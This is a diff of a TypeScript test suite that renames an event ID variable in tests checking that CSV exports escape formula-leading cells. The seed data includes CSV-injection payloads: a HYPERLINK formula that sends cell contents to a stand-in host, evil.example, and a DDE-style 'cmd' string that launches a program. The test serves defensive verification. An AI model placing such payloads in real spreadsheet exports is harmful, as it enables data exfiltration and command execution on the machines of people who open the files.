@@ -9,7 +9,7 @@ import { createTestApp, TestApp } from './support/test-app';
  */
 describe('CSV exports escape formula-leading cells', () => {
   let t: TestApp;
-  let eventId: string;
+  let editionId: string;
 
   const csv = async (path: string) => {
     const res = await t.http
@@ -27,7 +27,7 @@ describe('CSV exports escape formula-leading cells', () => {
 
   beforeAll(async () => {
     t = await createTestApp('csv_injection');
-    eventId = (await t.http.get('/api/events').set(await t.as('bureau@demo.test'))).body[0].id;
+    editionId = (await t.http.get('/api/events').set(await t.as('bureau@demo.test'))).body[0].id;
     const p = await demoParties(t);
     await t.db.query(`UPDATE organizations SET name_ja = '=HYPERLINK("http://evil.example/?x="&A1)', city = $2 WHERE id = $1`, [p.jp[0], "+cmd|'/C calc'!A0"]);
     await t.db.query(`UPDATE organizations SET name_zh = '-2+3', city = '@SUM(1+1)*cmd' WHERE id = $1`, [p.cn[0]]);
@@ -35,7 +35,7 @@ describe('CSV exports escape formula-leading cells', () => {
       `UPDATE offers SET title_zh = '=1+1', title_ja = '\t=1+1' WHERE id = (SELECT id FROM offers WHERE organization_id = $1 LIMIT 1) RETURNING id`,
       [p.cn[0]],
     );
-    const id = await insertMeeting(t, eventId, {
+    const id = await insertMeeting(t, editionId, {
       jp: p.jp[0],
       cn: p.cn[0],
       sector: 'health',
@@ -49,13 +49,13 @@ describe('CSV exports escape formula-leading cells', () => {
     await t.db.query(`INSERT INTO audit_log (actor_id, action, entity, entity_id, edition_id, details) VALUES ($1, 'test.action', 'meeting', $2, $3, '{}')`, [
       p.bureauId,
       id,
-      eventId,
+      editionId,
     ]);
   });
   afterAll(() => t.close());
 
   it('meetings.csv: firm names and offer titles', async () => {
-    const rows = await csv(`/api/events/${eventId}/exports/meetings.csv`);
+    const rows = await csv(`/api/events/${editionId}/exports/meetings.csv`);
     const row = rows.find((r) => r['japanese_firm_ja'].includes('HYPERLINK'))!;
     expect(row['japanese_firm_ja']).toBe(`'=HYPERLINK("http://evil.example/?x="&A1)`);
     expect(row['jinan_company_zh']).toBe(`'-2+3`);
@@ -64,14 +64,14 @@ describe('CSV exports escape formula-leading cells', () => {
   });
 
   it('organizations.csv: names and cities', async () => {
-    const rows = await csv(`/api/events/${eventId}/exports/organizations.csv`);
+    const rows = await csv(`/api/events/${editionId}/exports/organizations.csv`);
     expect(rows.find((r) => r['name_ja']?.includes('HYPERLINK'))).toMatchObject({ city: `'+cmd|'/C calc'!A0` });
     expect(rows.find((r) => r['name_zh'] === `'-2+3`)).toMatchObject({ city: `'@SUM(1+1)*cmd` });
     for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it('audit.csv: a person named like a formula', async () => {
-    const rows = await csv(`/api/events/${eventId}/audit.csv`);
+    const rows = await csv(`/api/events/${editionId}/audit.csv`);
     expect(rows.find((r) => r['action'] === 'test.action')).toMatchObject({ actor_name: `'@SUM(A1:A9)` });
   });
 });
